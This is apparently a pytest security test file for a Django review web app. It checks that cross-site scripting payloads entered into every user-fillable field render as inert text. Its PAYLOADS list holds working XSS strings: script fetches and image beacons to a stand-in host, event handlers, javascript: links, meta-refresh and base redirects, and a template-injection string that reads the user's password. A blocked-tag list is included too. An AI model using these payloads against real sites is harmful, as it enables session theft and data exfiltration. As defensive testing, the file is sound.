"""Words from questions, pages, models and people stay words: no tag, no handler, no address, no order to the browser
(B-139, B-149). What a test looks for is looked for in the parsed page, since a payload as text is harmless."""

import re
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest
from django.test import Client
from lxml.html import HtmlElement

from research import actions
from research.models import Audit, Claim, Decision, Entry, ModelCall, ResearchTask, Source, User, Workspace
from tests.web import report_rows, rows
from tests.web.parsed import page, pick, words

pytestmark = pytest.mark.django_db

HOST = "collector.example"
PAYLOADS = [
    f"<script>fetch('//{HOST}/p')</script>",
    f"<svg onload=alert(1)><img src=//{HOST}/p?d=canary onerror=alert(2)>",
    f'"><a href="javascript:alert(1)" hx-get="//{HOST}/" hx-trigger="load" data-hx-post="/settings/people">x</a>',
    f"[a](javascript:alert(1)) ![x](https://{HOST}/p?d=canary) [r]: data:text/html,<script>alert(1)</script>",
    f"' autofocus onfocus=alert(1) style=background:url(//{HOST}/p) x='",
    f"</textarea></title></style><base href=//{HOST}/><meta http-equiv=refresh content=0;url=//{HOST}/>",
    f"{{% debug %}}{{{{ request.user.password }}}}<iframe srcdoc='<script src=//{HOST}/p></script>'></iframe>",
    f"\u202e\u2066<form action=//{HOST}/><button formaction=javascript:alert(1) name=ruling value=approved>",
]
NOTHING = re.compile(r"(?!)")
OWN_HTMX = {
    "hx-post": re.compile(r"/tasks/T-\d+/follow-ups"),
    "hx-get": re.compile(r"/tasks/T-\d+/follow-ups/F-\d+"),
    "hx-target": re.compile("#ask-further"),
    "hx-swap": re.compile("outerHTML"),
    "hx-trigger": re.compile(r"every \ds"),
    "hx-disabled-elt": re.compile("find button"),
}
"""What the report's page has of its own, by name and value; anything else came with somebody's words."""
BAD_TAGS = ("base", "iframe", "object", "embed", "frame", "applet", "style", "img", "video", "audio")


def poisoned(room: Workspace, owner: User, payload: str) -> tuple[ResearchTask, list[Claim]]:
    """The payload in every field that somebody or something outside can fill."""
    task = rows.task(room, owner, payload, phase="review", status="waiting_for_review", ended_because=payload)
    goal = rows.goal(task, payload, state="insufficient", rounds=1, closed_because=payload)
    rows.query(goal, payload, gap=payload, hopes=payload)
    source = rows.source(
        room, payload, payload, publisher=payload, url=f"javascript:alert('{HOST}')", note=payload, language='x" onx="'
    )
    first = rows.evidence(goal, source, payload, reason=payload)
    copy = rows.evidence(goal, rows.source(room, payload, payload), payload, reprint_of=first)
    rows.conflict(first, copy, payload)
    report_rows.unread(task, payload, "a" + payload[:20], payload)
    atoms = [report_rows.atom(payload[:9], True, payload), report_rows.atom(payload, False, payload)]
    weak = {"verdict": "contradicted", "reason": payload, "atoms": atoms}
    sentences = [
        report_rows.sentence(payload, "quote", (first,), **weak),
        report_rows.sentence(payload, "fact", (first,), **weak),
        report_rows.sentence(payload, "speculation"),
        report_rows.sentence(payload, "fact", (), **weak),
        *(report_rows.sentence(payload, "fact", (first,), **weak) for _decided in range(3)),
    ]
    claims = report_rows.report(task, (payload, goal, sentences))
    for claim, (ruling, effect) in zip(
        claims[3:], [("rejected", "mark"), ("rejected", "remove"), ("edited", "")], strict=False
    ):
        Decision.objects.create(
            claim=claim, claim_version=1, person=owner, ruling=ruling, effect=effect, text=payload, note=payload,
            reason_code="other", verdict="contradicted",
        )  # fmt: skip
    ModelCall.objects.create(
        workspace=room, task=task, role="planner", endpoint=payload[:190], model=payload[:190], prompt="p",
        prompt_hash="0", state="settled", reserved_tokens=1,
    )  # fmt: skip
    Entry.objects.create(task=task, seq=1, step=1, kind="RoleFellBack", payload={"role": payload}, v=1)
    return task, claims


def harmless(root: HtmlElement, where: str) -> None:
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in BAD_TAGS, f"<{element.tag}> on {where}"
        if element.tag == "script":
            assert element.get("src", "").startswith("/static/") and not element.text, f"a script on {where}"
        if element.tag == "meta":
            assert element.get("http-equiv") is None, f"a refresh on {where}"
        for name, value in element.attrib.items():
            _harmless_attribute(name, value, where)


def _harmless_attribute(name: str, value: str, where: str) -> None:
    assert not name.startswith("on"), f"a handler {name} on {where}"
    if name.startswith(("hx-", "data-hx-")):
        assert OWN_HTMX.get(name, NOTHING).fullmatch(value), f"{name}={value} on {where} is none of our own"
    assert name not in ("style", "srcdoc", "ping"), f"{name} on {where}"
    if name in ("href", "src", "action", "formaction", "data-quote", "poster"):
        parts = urlsplit(value)
        assert parts.scheme == "" and parts.netloc == "", f"{name}={value} on {where} leaves this site"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_words_are_text_on_every_page_of_the_desk(client: Client, room, admin, payload):
    owner = rows.person(payload[:140], room, "reviewer")
    task, claims = poisoned(room, owner, payload)
    number = actions.current_thresholds(room).number
    actions.change_thresholds(admin, room, {"hits": 9}, reason=payload, seen_number=number)
    actions.mark_host(admin, room, "a.example", "anyone", reason=payload)
    client.force_login(admin)
    cited = claims[0].citations.get().evidence_id
    paths = [
        f"/tasks/T-{task.pk}/report", f"/claims/C-{task.pk}-1/E-{cited}", "/review",
        *(f"/review/C-{task.pk}-{claim.number}" for claim in claims),
        "/settings/thresholds", "/settings/people", "/settings/audit", "/settings/models", "/settings/trust",
        "/settings/roles",
    ]  # fmt: skip
    for path in paths:
        answer = client.get(path)
        assert answer.status_code == 200, path
        harmless(page(answer), path)
    fragment = client.get(paths[1], headers={"HX-Request": "true"})
    harmless(page(fragment), "the card")
    assert pick(page(fragment), "[data-exact]")[0].text_content() == Source.objects.earliest("pk").text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_words_that_come_back_in_a_refused_form_are_text(client: Client, room, admin, payload):
    _task, claims = poisoned(room, admin, payload)
    client.force_login(admin)
    address = f"/review/C-{claims[0].task_id}-1/decide"
    refused = client.post(address, {"seen_version": 1, "ruling": "edited", "text": "", "note": payload})
    assert refused.status_code == 422
    harmless(page(refused), "a refused decision")
    assert page(refused).get_element_by_id("note").text.strip() == payload.replace("\u202e\u2066", "\u202e\u2066")
    Claim.objects.filter(pk=claims[0].pk).update(version=2)
    Decision.objects.create(
        claim=claims[0], claim_version=1, person=admin, ruling="edited", text=payload, note=payload, verdict="partly"
    )
    stale = client.post(address, {"seen_version": 1, "ruling": "edited", "text": payload + "!", "note": payload})
    assert stale.status_code == 409
    harmless(page(stale), "two decisions")
    added = client.post("/settings/people", {"username": payload, "role": payload})
    harmless(page(added), "a refused person")
    saved = client.post("/settings/thresholds", {"hits": payload, "reason": payload, "seen_number": payload})
    harmless(page(saved), "refused thresholds")
    marked = client.post("/settings/trust", {"host": payload, "trust": payload, "reason": payload})
    harmless(page(marked), "a refused mark")
    harmless(page(client.get("/settings/trust", {"address": payload})), "a look-up")
    harmless(page(client.get("/review", {"task": payload, "verdict": payload, "language": payload})), "a filter")


def test_a_payload_in_the_audit_trail_is_text(client: Client, room, admin):
    payload = PAYLOADS[1]
    row = Audit(
        workspace=room,
        person=admin,
        door=payload[:10],
        verb=payload[:40],
        object=payload[:80],
        before={payload: payload},
        after=[payload],
        reason=payload,
        at=datetime(2026, 3, 4, tzinfo=UTC),
        previous="0" * 64,
        hash="1" * 64,
    )
    row.save()
    client.force_login(admin)
    shown = page(client.get("/settings/audit"))
    harmless(shown, "the audit trail")
    assert payload in words(shown)


def test_the_check_of_this_file_finds_what_it_looks_for():
    from lxml.html import fromstring

    found = 0
    for payload in PAYLOADS:
        try:
            harmless(fromstring(f"<div><p x='{payload}'>{payload}</p></div>"), "a page that trusts its words")
        except AssertionError:
            found += 1
    assert found == len([payload for payload in PAYLOADS if "[a](javascript" not in payload or "<script>" in payload])
